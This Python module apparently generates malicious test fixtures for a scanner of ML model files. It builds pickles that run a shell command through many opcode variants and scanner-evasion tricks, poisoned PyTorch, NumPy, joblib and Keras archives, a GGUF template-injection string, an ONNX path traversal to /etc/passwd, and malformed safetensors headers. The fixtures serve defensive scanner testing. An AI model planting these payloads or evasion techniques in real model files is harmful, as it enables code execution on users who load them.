"""Malicious files: every class of pickle hiding place and scanner bypass, Keras
Lambda archives, and malformed headers."""

from __future__ import annotations

import io
import json
import pickle
import struct
import tarfile
import zipfile

import numpy as np

PAYLOAD = "echo pwned"


def _proto(p: int) -> bytes:
    return b"\x80" + bytes([p]) if p >= 2 else b""


def _str(s: str) -> bytes:
    data = s.encode()
    return b"\x8c" + bytes([len(data)]) + data  # SHORT_BINUNICODE (protocol 4)


def global_call(module: str, name: str, arg: str = PAYLOAD, proto: int = 2) -> bytes:
    """``module.name(arg)`` with GLOBAL, in protocol ``proto`` (0-5)."""
    if proto == 0:
        return f"c{module}\n{name}\n(V{arg}\ntR.".encode()
    if proto == 1:
        return (
            f"c{module}\n{name}\n(X".encode() + struct.pack("<I", len(arg)) + arg.encode() + b"tR."
        )
    body = f"c{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(arg)) + arg.encode()
    body += b"\x85R."
    if proto >= 4:
        body = _proto(proto) + b"\x95" + struct.pack("<Q", len(body) + 1) + body
        return body
    return _proto(proto) + body


def stack_global_call(module: str, name: str, arg: str = PAYLOAD) -> bytes:
    """``module.name(arg)`` with STACK_GLOBAL (protocol 4)."""
    return b"\x80\x04" + _str(module) + _str(name) + b"\x93" + _str(arg) + b"\x85R."


def stack_global_memo(module: str, name: str) -> bytes:
    """STACK_GLOBAL whose names come from the memo, put there earlier."""
    return (
        b"\x80\x04" + _str(module) + b"\x94" + _str(name) + b"\x94" + b"0" + b"0"
        + b"h\x00h\x01\x93" + _str(PAYLOAD) + b"\x85R."
    )  # fmt: skip


def stack_global_built() -> bytes:
    """STACK_GLOBAL whose module name is computed by a call (``str.join``)."""
    return (
        b"\x80\x04" + _str("builtins") + _str("str") + b"\x93" + _str("join") + b"\x86"
        + b"c__builtin__\ngetattr\n" + b"N" + b"\x85R."  # noise, then the real trick:
        + b"\x80\x04" + _str("") + _str("o") + _str("s") + b"\x86" + b"\x86"
        + _str("system") + b"\x93" + _str(PAYLOAD) + b"\x85R."
    )  # fmt: skip


def getattr_chain() -> bytes:
    """``getattr(__import__('os'), 'system')('echo pwned')``."""
    return (
        b"\x80\x02c__builtin__\ngetattr\n" + b"c__builtin__\n__import__\n"
        + b"X\x02\x00\x00\x00os\x85R"
        + b"X\x06\x00\x00\x00system\x86R" + b"X" + struct.pack("<I", len(PAYLOAD))
        + PAYLOAD.encode() + b"\x85R."
    )  # fmt: skip


def attrgetter() -> bytes:
    return global_call("operator", "attrgetter", "system")


def reduce_obj(func: object, *args: object) -> bytes:
    class Evil:
        def __reduce__(self) -> tuple[object, tuple[object, ...]]:
            return (func, args)

    return pickle.dumps(Evil(), protocol=4)


def nested_pickle() -> bytes:
    inner = reduce_obj(__import__("os").system, PAYLOAD)
    return reduce_obj(pickle.loads, inner)


def torch_zip(pkl: bytes, pkl_name: str = "archive/data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(pkl_name, pkl)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/data/0", b"\x00" * 64)
    return buf.getvalue()


def torch_zip_extra_pickle() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(3)}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for item in src.infolist():
            z.writestr(item, src.read(item))
        z.writestr("archive/extra/hook.pkl", global_call("os", "system"))
    return out.getvalue()


def legacy_tar() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, data in (
            ("sys_info", pickle.dumps({"protocol_version": 1001})),
            ("pickle", global_call("posix", "system")),
            ("storages", pickle.dumps(0)),
            ("tensors", pickle.dumps(0)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def legacy_torch() -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return (
        magic + pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2)
        + global_call("subprocess", "getoutput") + pickle.dumps([], protocol=2) + b"\x00" * 32
    )  # fmt: skip


def npy_object() -> bytes:
    header = {"descr": "|O", "fortran_order": False, "shape": (1,)}
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, header)
    return buf.getvalue() + global_call("os", "system", proto=3)


def npz_object() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.npy", npy_object())
        z.writestr("b.npy", _benign_npy())
    return out.getvalue()


def _benign_npy() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.arange(4))
    return buf.getvalue()


def joblib_like() -> bytes:
    return reduce_obj(eval, "__import__('os').system('echo pwned')")


def _joblib(obj: object) -> bytes:
    import joblib  # type: ignore[import-untyped]

    buf = io.BytesIO()
    joblib.dump(obj, buf)
    return buf.getvalue()


class _Evil:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (__import__("os").system, (PAYLOAD,))


def joblib_files() -> dict[str, bytes]:
    """Real joblib files: the payload in an object array's nested pickle, after the
    arrays, in a pickle stacked after joblib's, and an array cut short."""
    return {
        "object_array.joblib": _joblib({"w": np.ones(3), "o": np.array([_Evil()], dtype=object)}),
        "after_arrays.joblib": _joblib({"w": np.ones((4, 4)), "hook": _Evil()}),
        "stacked_after.joblib": _joblib({"w": np.ones(3)}) + pickle.dumps(_Evil()),
        "cut_array.joblib": _joblib({"w": np.ones(300)})[:-100],
    }


def keras_archive(layer: dict[str, object]) -> bytes:
    config = {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": [layer]},
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("config.json", json.dumps(config))
        z.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        z.writestr("model.weights.h5", b"")
    return out.getvalue()


def keras_lambda() -> bytes:
    return keras_archive(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "pwn",
                "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}},
            },
        }
    )


def keras_builtin_function() -> bytes:
    return keras_archive(
        {
            "module": "keras.layers",
            "class_name": "Activation",
            "config": {
                "name": "act",
                "activation": {"module": "builtins", "class_name": "function", "config": "exec"},
            },
        }
    )


def keras_os_layer() -> bytes:
    return keras_archive({"module": "os", "class_name": "system", "config": {"name": "x"}})


def h5_lambda() -> bytes:
    import h5py

    config = {
        "class_name": "Sequential",
        "config": {"layers": [{"class_name": "Lambda", "config": {"name": "pwn"}}]},
    }
    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
    return buf.getvalue()


def safetensors_overlap() -> bytes:
    header = {
        "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
    }
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 12


def safetensors_past_end() -> bytes:
    header = {"a": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + b"\x00" * 16


def safetensors_huge_header() -> bytes:
    return struct.pack("<Q", 1 << 40) + b"{}"


def gguf_template() -> bytes:
    def s(text: str) -> bytes:
        return struct.pack("<Q", len(text)) + text.encode()

    template = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    kv = s("tokenizer.chat_template") + struct.pack("<I", 8) + s(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv


def gguf_truncated() -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 5, 1) + struct.pack("<Q", 1000) + b"abc"


def onnx_escape() -> bytes:
    def field(number: int, payload: bytes) -> bytes:
        return _varint((number << 3) | 2) + _varint(len(payload)) + payload

    entry = field(1, b"location") + field(2, b"../../../../etc/passwd")
    tensor = field(8, b"w") + field(13, entry)
    graph = field(5, tensor)
    return _varint(1 << 3) + _varint(8) + field(7, graph)


def _field(number: int, payload: bytes) -> bytes:
    return _varint((number << 3) | 2) + _varint(len(payload)) + payload


def saved_model(graph_ops: list[str], function_ops: list[str]) -> bytes:
    """A ``saved_model.pb``: SavedModel{meta_graphs{graph_def{node, library{function
    {node_def}}}}}, with NodeDef{name, op}; only the fields a scanner reads."""

    def node(i: int, op: str) -> bytes:
        return _field(1, f"n{i}".encode()) + _field(2, op.encode())

    function = b"".join(_field(3, node(i, op)) for i, op in enumerate(function_ops))
    graph = b"".join(_field(1, node(i, op)) for i, op in enumerate(graph_ops))
    graph += _field(2, _field(1, _field(1, b"signature") + function))
    return _varint(1 << 3) + _varint(1) + _field(2, _field(2, graph))


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def malicious() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for proto in range(6):
        files[f"raw_p{proto}.pkl"] = global_call("os", "system", proto=proto)
    files["builtins_eval.pkl"] = global_call("builtins", "eval", "print(1)", proto=3)
    files["builtin_exec_p0.bin"] = global_call("__builtin__", "exec", "print(1)", proto=0)
    files["builtins_import.pkl"] = global_call("builtins", "__import__", "os", proto=4)
    files["posix_system.pt"] = global_call("posix", "system")
    files["subprocess.pickle"] = reduce_obj(__import__("subprocess").getoutput, PAYLOAD)
    files["stack_global.pkl"] = stack_global_call("os", "system")
    files["stack_global_memo.pkl"] = stack_global_memo("os", "system")
    files["stack_global_built.pkl"] = stack_global_built()
    files["getattr_chain.pkl"] = getattr_chain()
    files["attrgetter.pkl"] = attrgetter()
    files["_operator_methodcaller.pkl"] = global_call("_operator", "methodcaller", "system")
    files["importlib.pkl"] = global_call("importlib", "import_module", "os")
    files["runpy.pkl"] = global_call("runpy", "run_path", "/tmp/x")
    files["nested.pkl"] = nested_pickle()
    files["truncated.pkl"] = global_call("os", "system")[:-6]
    files["corrupt.bin"] = b"\x80\x04\xff\xfe" + b"garbage" * 10
    files["stacked.pkl"] = pickle.dumps({"ok": 1}) + global_call("os", "system", proto=4)
    files["torch_data_pkl.pt"] = torch_zip(global_call("os", "system"))
    files["torch_renamed.bin"] = torch_zip(global_call("os", "system"), "model/weights.pkl")
    files["torch_extra_pickle.pt"] = torch_zip_extra_pickle()
    files["torch_legacy_tar.pt"] = legacy_tar()
    files["torch_legacy.bin"] = legacy_torch()
    files["object_array.npy"] = npy_object()
    files["object_arrays.npz"] = npz_object()
    files["model.joblib"] = joblib_like()
    files.update(joblib_files())
    files["webbrowser.ckpt"] = global_call("webbrowser", "open", "http://x")
    files["lambda.keras"] = keras_lambda()
    files["builtin_fn.keras"] = keras_builtin_function()
    files["os_layer.keras"] = keras_os_layer()
    files["lambda.h5"] = h5_lambda()
    files["overlap.safetensors"] = safetensors_overlap()
    files["past_end.safetensors"] = safetensors_past_end()
    files["huge_header.safetensors"] = safetensors_huge_header()
    files["template.gguf"] = gguf_template()
    files["truncated.gguf"] = gguf_truncated()
    files["escape.onnx"] = onnx_escape()
    files["pyfunc/saved_model.pb"] = saved_model(["Placeholder", "PyFunc"], ["MatMul"])
    files["readfile/saved_model.pb"] = saved_model(
        ["Placeholder", "StatefulPartitionedCall"], ["Const", "ReadFile", "Identity"]
    )
    return files
